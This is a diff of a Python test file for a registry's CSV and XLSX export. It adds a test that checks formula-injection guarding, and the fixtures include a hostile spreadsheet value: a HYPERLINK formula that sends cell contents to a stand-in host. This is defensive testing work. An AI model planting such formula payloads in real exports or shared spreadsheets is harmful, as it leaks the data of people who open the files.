@@ -1,13 +1,15 @@
-"""Export: CSV and XLSX round-trip through import unchanged; GeoJSON flags approximate locations."""
+"""Export: CSV and XLSX round-trip through import unchanged, with hostile text formula-guarded."""
 
 from __future__ import annotations
 
-import json
+import csv
+import io
 from pathlib import Path
 
+from openpyxl import load_workbook
 from sqlalchemy import Engine
 
-from tsbkart.exchange.export import export_csv, geojson, write_csv_files, write_xlsx
+from tsbkart.exchange.export import export_csv, write_csv_files, write_xlsx
 from tsbkart.exchange.importer import import_files
 from tsbkart.registry.snapshot import RegistrySnapshot
 
@@ -38,23 +40,23 @@ def test_exports_import_again_without_changes(engine: Engine, tmp_path: Path) ->
         assert sum(report.rows.values()) == 1 + 1 + 2 + 2
 
 
-def test_geojson_has_units_with_offers_and_approximate_flags(engine: Engine, tmp_path: Path) -> None:
+def test_hostile_text_is_guarded_and_imports_back_unchanged(engine: Engine, tmp_path: Path) -> None:
+    """Public text beginning with = + - @ is never a live formula in an export, and the export still imports
+    again unchanged (before #9 the CSV and XLSX exports wrote such cells as formulas)."""
     registry = seeded_registry(engine)
-    import_files(registry, [write_csv(tmp_path / "tilbud.csv", [offer_row(1)])], actor="t", reason="r")
-    collection = geojson(registry.snapshot())
-    json.dumps(collection)  # serialisable as it is
-    features = {f["id"]: f for f in collection["features"]}
-    assert features["u1"]["geometry"] == {"type": "Point", "coordinates": [10.7, 59.9]}
-    assert features["u1"]["properties"]["approximate"] is False
-    assert features["u2"]["properties"]["approximate"] is True
-    assert features["u2"]["properties"]["location_precision"] == "municipality"
-    assert [o["id"] for o in features["u1"]["properties"]["offers"]] == ["u1/offer-0001"]
-    assert features["u1"]["properties"]["organisation_name"] == "Synthetic HF"
-
-
-def test_units_without_location_have_null_geometry(bundled_snapshot: RegistrySnapshot) -> None:
-    features = geojson(bundled_snapshot)["features"]
-    assert len(features) == len(bundled_snapshot.units)
-    for feature in features:
-        unit = bundled_snapshot.units[feature["id"]]
-        assert (feature["geometry"] is None) == (unit.lat is None)
+    hostile = '=HYPERLINK("https://example.invalid/?d="&A1,"x")'
+    offers = [offer_row(1, referral_note=hostile, description="@SUM(A1)"), offer_row(2, description="-1+2")]
+    assert import_files(registry, [write_csv(tmp_path / "in.csv", offers, "offer")], actor="t", reason="r").ok
+    snapshot = registry.snapshot()
+    assert snapshot.offers["u1/offer-0001"].referral_note == hostile
+    text = export_csv(snapshot, "offer")
+    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
+    assert "'" + hostile in cells and "'@SUM(A1)" in cells and "'-1+2" in cells
+    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
+    xlsx = write_xlsx(snapshot, tmp_path / "all.xlsx")
+    sheet = load_workbook(xlsx)["tilbud"]
+    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
+    for files in (write_csv_files(snapshot, tmp_path / "csv"), [xlsx]):
+        report = import_files(registry, files, actor="t", reason="r")
+        assert report.ok and report.revision is None, report.problems  # identical: nothing to write
